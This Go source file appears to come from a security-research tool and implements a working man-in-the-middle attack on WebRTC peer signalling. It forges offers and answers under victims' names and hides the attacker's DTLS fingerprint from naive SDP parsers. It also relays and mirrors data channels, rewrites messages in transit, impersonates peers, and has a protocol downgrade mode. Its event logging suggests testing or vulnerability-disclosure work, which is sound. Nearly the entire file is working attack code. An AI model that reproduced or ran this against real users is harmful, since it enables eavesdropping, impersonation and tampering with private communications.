package main

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"sync"
	"time"

	"github.com/pion/webrtc/v4"
)

// session is one attack on one offer: the victim x offered to the victim y, the attacker
// dropped that offer and now sits between them with two PeerConnections of its own:
// px toward x (the attacker answers x as y) and py toward y (the attacker offers to y: as x in
// a MITM, as itself in relay-sessions).
type session struct {
	a     *attacker
	x, y  string // full names: the offerer and its target
	asY   string // the sender name the attacker uses toward y
	topic string
	offer envelope // x's original offer
	ctx   context.Context
	stop  context.CancelFunc

	px, py *peerConn
	answer chan envelope // y's answer to the attacker's offer

	mu      sync.Mutex
	links   []*link
	endOnce sync.Once
	done    chan struct{}
}

// end is one data channel of a relayed pair. Messages for it wait in queue until it opens.
type end struct {
	dc    *webrtc.DataChannel
	mu    sync.Mutex
	open  bool
	queue []webrtc.DataChannelMessage
}

func (e *end) send(m webrtc.DataChannelMessage) {
	e.mu.Lock()
	defer e.mu.Unlock()
	if !e.open {
		e.queue = append(e.queue, m)
		return
	}
	e.write(m)
}

func (e *end) write(m webrtc.DataChannelMessage) {
	if m.IsString {
		_ = e.dc.SendText(string(m.Data))
	} else {
		_ = e.dc.Send(m.Data)
	}
}

func (e *end) opened() {
	e.mu.Lock()
	defer e.mu.Unlock()
	if e.open {
		return
	}
	e.open = true
	for _, m := range e.queue {
		e.write(m)
	}
	e.queue = nil
}

// link is one label relayed between the two connections.
type link struct {
	label    string
	toX, toY *end
}

func (s *session) link(label string) *link {
	s.mu.Lock()
	defer s.mu.Unlock()
	for _, l := range s.links {
		if l.label == label {
			return l
		}
	}
	return nil
}

// run carries out the attack until one side goes away or the attacker stops.
func (s *session) run() {
	defer s.finish()
	var err error
	s.px, err = newPeerConn(false)
	if err == nil {
		s.py, err = newPeerConn(true)
	}
	if err != nil {
		s.a.emit(map[string]any{"event": "error", "err": err.Error()})
		return
	}
	s.watch(s.px, s.x)
	s.watch(s.py, s.y)
	s.px.pc.OnDataChannel(func(dc *webrtc.DataChannel) { s.adopt(dc, true) })
	s.py.pc.OnDataChannel(func(dc *webrtc.DataChannel) { s.adopt(dc, false) })
	if s.a.mode == modeRelay {
		err = s.relaySessions()
	} else {
		err = s.mitm()
	}
	if err != nil {
		if s.ctx.Err() == nil {
			s.a.emit(map[string]any{"event": "error", "offerer": s.x, "target": s.y, "err": err.Error()})
		}
		return
	}
	<-s.ctx.Done()
}

// mitm: offer to y as x (x's envelope, the attacker's SDP), take y's answer, then answer x
// as y (y's envelope, the attacker's SDP). With the fingerprint trick each forwarded SDP
// shows the victim's fingerprint to a naive reader.
func (s *session) mitm() error {
	xSDP := getString(s.offer.Data, "offer", "localDescription", "sdp")
	offer, err := s.py.pc.CreateOffer(nil)
	if err != nil {
		return fmt.Errorf("offer to %s: %w", s.y, err)
	}
	own, err := s.py.gather(s.ctx, offer)
	if err != nil {
		return err
	}
	forged := hideFingerprint(own, naiveFingerprint(xSDP))
	data, err := setPath(s.offer.Data, forged, "offer", "localDescription", "sdp")
	if err != nil {
		return fmt.Errorf("%s's offer: %w", s.x, err)
	}
	s.publishForged(envelope{Sender: s.x, Subtopic: subOffer, Data: data}, s.y, own, naiveFingerprint(xSDP))

	var answerData json.RawMessage
	visible := ""
	t := time.NewTimer(s.a.answerWait)
	defer t.Stop()
	select {
	case ans := <-s.answer:
		if err := s.applyAnswer(ans); err != nil {
			return err
		}
		answerData, visible = ans.Data, naiveFingerprint(getString(ans.Data, "localDescription", "sdp"))
	case <-t.C:
		// y ignored the forged offer (or is slow): answer x anyway, so that x at least
		// connects to us and has to decide about a peer that cannot prove anything.
		s.noAnswer()
		answerData = json.RawMessage(`{"localDescription":{"type":"answer","sdp":""}}`)
	case <-s.ctx.Done():
		return s.ctx.Err()
	}
	if err := s.px.pc.SetRemoteDescription(webrtc.SessionDescription{Type: webrtc.SDPTypeOffer, SDP: xSDP}); err != nil {
		return fmt.Errorf("%s's offer: %w", s.x, err)
	}
	answer, err := s.px.pc.CreateAnswer(nil)
	if err != nil {
		return fmt.Errorf("answer to %s: %w", s.x, err)
	}
	ownX, err := s.px.gather(s.ctx, answer)
	if err != nil {
		return err
	}
	forgedX := ownX
	if visible != "" {
		forgedX = hideFingerprint(ownX, visible)
	}
	data, err = setPath(answerData, forgedX, "localDescription", "sdp")
	if err == nil {
		data, err = setPath(data, s.x, "target")
	}
	if err != nil {
		return fmt.Errorf("%s's answer: %w", s.y, err)
	}
	s.publishForged(envelope{Sender: s.y, Subtopic: subAnswer, Data: data}, s.x, ownX, visible)
	return nil
}

// relaySessions: answer x as y with an honest SDP of the attacker's own, and connect to y
// honestly as the attacker's own identity (pinned by y). Messages are relayed between the two
// connections; y's questions are put to the attacker, who answers them as itself.
func (s *session) relaySessions() error {
	xSDP := getString(s.offer.Data, "offer", "localDescription", "sdp")
	if err := s.px.pc.SetRemoteDescription(webrtc.SessionDescription{Type: webrtc.SDPTypeOffer, SDP: xSDP}); err != nil {
		return fmt.Errorf("%s's offer: %w", s.x, err)
	}
	answer, err := s.px.pc.CreateAnswer(nil)
	if err != nil {
		return err
	}
	ownX, err := s.px.gather(s.ctx, answer)
	if err != nil {
		return err
	}
	s.publishForged(envelope{Sender: s.y, Subtopic: subAnswer, Data: mustJSON(map[string]any{
		"localDescription": map[string]string{"type": "answer", "sdp": ownX}, "target": s.x,
	})}, s.x, ownX, "")

	offer, err := s.py.pc.CreateOffer(nil)
	if err != nil {
		return err
	}
	ownY, err := s.py.gather(s.ctx, offer)
	if err != nil {
		return err
	}
	info := map[string]any{"publicKeyString": s.a.id.PublicJWK, "rtchat": map[string]any{"v": 1, "role": "ask"}}
	s.a.publish(s.topic, envelope{Sender: s.asY, Subtopic: subOffer, Data: mustJSON(map[string]any{
		"userInfo": info,
		"offer":    map[string]any{"localDescription": map[string]string{"type": "offer", "sdp": ownY}, "target": s.y},
	})})
	s.a.emit(map[string]any{"event": "offered", "as": s.asY, "to": s.y, "fingerprint": naiveFingerprint(ownY)})
	t := time.NewTimer(s.a.answerWait)
	defer t.Stop()
	select {
	case ans := <-s.answer:
		return s.applyAnswer(ans)
	case <-t.C:
		s.noAnswer()
	case <-s.ctx.Done():
		return s.ctx.Err()
	}
	return nil
}

// applyAnswer applies y's answer to the attacker's offer.
func (s *session) applyAnswer(ans envelope) error {
	ySDP := getString(ans.Data, "localDescription", "sdp")
	if err := s.py.pc.SetRemoteDescription(webrtc.SessionDescription{Type: webrtc.SDPTypeAnswer, SDP: ySDP}); err != nil {
		return fmt.Errorf("%s's answer: %w", s.y, err)
	}
	return nil
}

// noAnswer reports that y did not answer in time, and still takes a late answer.
func (s *session) noAnswer() {
	s.a.emit(map[string]any{"event": "no-answer", "from": s.y, "to": s.asY, "after_ms": s.a.answerWait.Milliseconds()})
	go func() {
		select {
		case ans := <-s.answer:
			err := s.applyAnswer(ans)
			ev := map[string]any{"event": "late-answer", "from": s.y, "to": s.asY}
			if err != nil {
				ev["err"] = err.Error()
			}
			s.a.emit(ev)
		case <-s.ctx.Done():
		}
	}()
}

// publishForged publishes a forged offer or answer and reports what each reader of its SDP
// sees: the fingerprint a naive line scan finds and the one pion (and so DTLS) uses.
func (s *session) publishForged(env envelope, to, own, victimFP string) {
	if s.a.mode == modeDowngrade {
		stripRTChat(&env)
	}
	sdpPath := []string{"localDescription", "sdp"}
	if env.Subtopic == subOffer {
		sdpPath = []string{"offer", "localDescription", "sdp"}
	}
	text := getString(env.Data, sdpPath...)
	s.a.publish(s.topic, env)
	s.a.emit(map[string]any{
		"event": "forged", "subtopic": env.Subtopic, "as": env.Sender, "to": to,
		"victim_fp": victimFP, "attacker_fp": naiveFingerprint(own),
		"naive_fp": naiveFingerprint(text), "pion_fp": parsedFingerprint(text),
	})
}

// watch ends the session when either connection fails or closes.
func (s *session) watch(p *peerConn, victim string) {
	p.pc.OnConnectionStateChange(func(st webrtc.PeerConnectionState) {
		switch st {
		case webrtc.PeerConnectionStateConnected:
			s.a.emit(map[string]any{"event": "connected", "peer": victim})
		case webrtc.PeerConnectionStateFailed, webrtc.PeerConnectionStateDisconnected, webrtc.PeerConnectionStateClosed:
			s.a.emit(map[string]any{"event": "disconnected", "peer": victim, "state": st.String()})
			s.stop()
		}
	})
}

// adopt mirrors a channel one victim opened: the same label, with the same options, toward
// the other victim, and pumps every message both ways, text as text and binary as binary.
func (s *session) adopt(dc *webrtc.DataChannel, fromX bool) {
	other := s.py
	if !fromX {
		other = s.px
	}
	ordered, proto := dc.Ordered(), dc.Protocol()
	mirror, err := other.pc.CreateDataChannel(dc.Label(), &webrtc.DataChannelInit{
		Ordered: &ordered, MaxRetransmits: dc.MaxRetransmits(), MaxPacketLifeTime: dc.MaxPacketLifeTime(), Protocol: &proto,
	})
	if err != nil {
		s.a.emit(map[string]any{"event": "error", "label": dc.Label(), "err": err.Error()})
		_ = dc.Close()
		return
	}
	l := &link{label: dc.Label()}
	here, there := &end{dc: dc}, &end{dc: mirror}
	if fromX {
		l.toX, l.toY = here, there
	} else {
		l.toY, l.toX = here, there
	}
	s.mu.Lock()
	s.links = append(s.links, l)
	s.mu.Unlock()
	opener := s.x
	if !fromX {
		opener = s.y
	}
	s.a.emit(map[string]any{"event": "channel", "label": l.label, "opened_by": opener})
	dc.OnOpen(here.opened)
	mirror.OnOpen(there.opened)
	dc.OnMessage(func(m webrtc.DataChannelMessage) { s.onMessage(l, fromX, m) })
	mirror.OnMessage(func(m webrtc.DataChannelMessage) { s.onMessage(l, !fromX, m) })
	dc.OnClose(func() { _ = mirror.Close() })
	mirror.OnClose(func() { _ = dc.Close() })
}

// onMessage relays one message, after the attacker's edits.
func (s *session) onMessage(l *link, fromX bool, m webrtc.DataChannelMessage) {
	from, to, dst := s.x, s.y, l.toY
	if !fromX {
		from, to, dst = s.y, s.x, l.toX
	}
	if s.a.mode == modeRelay && !fromX && l.label == "question" && m.IsString {
		// y asks the peer it connected to, the attacker's own identity: answer as that.
		s.answerAsSelf(m.Data)
		return
	}
	if s.a.rewrite != "" && l.label == "answer" && m.IsString {
		if b, old, ok := rewriteAnswer(m.Data, s.a.rewrite); ok {
			s.a.emit(map[string]any{"event": "rewrote", "label": l.label, "from": from, "to": to, "old": old, "new": s.a.rewrite})
			m.Data = b
		}
	}
	s.a.count(l.label, from, to, m)
	dst.send(m)
}

func (s *session) answerAsSelf(frame []byte) {
	var offererFP, answererFP string
	if d := s.py.pc.LocalDescription(); d != nil {
		offererFP = naiveFingerprint(d.SDP)
	}
	if d := s.py.pc.RemoteDescription(); d != nil {
		answererFP = naiveFingerprint(d.SDP)
	}
	reply, topic := answerAsSelf(s.a.id, frame, offererFP, answererFP)
	if reply == nil {
		return
	}
	s.a.emit(map[string]any{"event": "answered-as-self", "from": s.y, "topic": topic})
	if al := s.link("answer"); al != nil {
		al.toY.send(webrtc.DataChannelMessage{IsString: true, Data: reply})
	}
}

// rewriteAnswer replaces the answer to an ordinary (not identity) question, if it is a
// string, with text.
func rewriteAnswer(frame []byte, text string) ([]byte, string, bool) {
	var a map[string]json.RawMessage
	if json.Unmarshal(frame, &a) != nil {
		return nil, "", false
	}
	var old string
	if json.Unmarshal(a["answer"], &old) != nil {
		return nil, "", false
	}
	if identityTopic(getString(a["question"], "topic")) {
		return nil, "", false
	}
	a["answer"] = mustJSON(text)
	b, err := json.Marshal(a)
	if err != nil {
		return nil, "", false
	}
	return b, old, true
}

// finish lets queued messages leave (briefly) and closes both connections.
func (s *session) finish() {
	s.endOnce.Do(func() {
		s.stop()
		deadline := time.Now().Add(2 * time.Second)
		s.mu.Lock()
		links := append([]*link(nil), s.links...)
		s.mu.Unlock()
		for _, l := range links {
			for _, e := range []*end{l.toX, l.toY} {
				for e.dc.ReadyState() == webrtc.DataChannelStateOpen && e.dc.BufferedAmount() > 0 && time.Now().Before(deadline) {
					time.Sleep(10 * time.Millisecond)
				}
			}
		}
		for _, p := range []*peerConn{s.px, s.py} {
			if p != nil {
				p.close()
			}
		}
		s.a.endSession(s)
		s.a.emit(map[string]any{"event": "session-end", "offerer": s.x, "target": s.y})
		close(s.done)
	})
}

func mustJSON(v any) json.RawMessage {
	b, err := json.Marshal(v)
	if err != nil {
		panic(errors.New("marshal: " + err.Error()))
	}
	return b
}
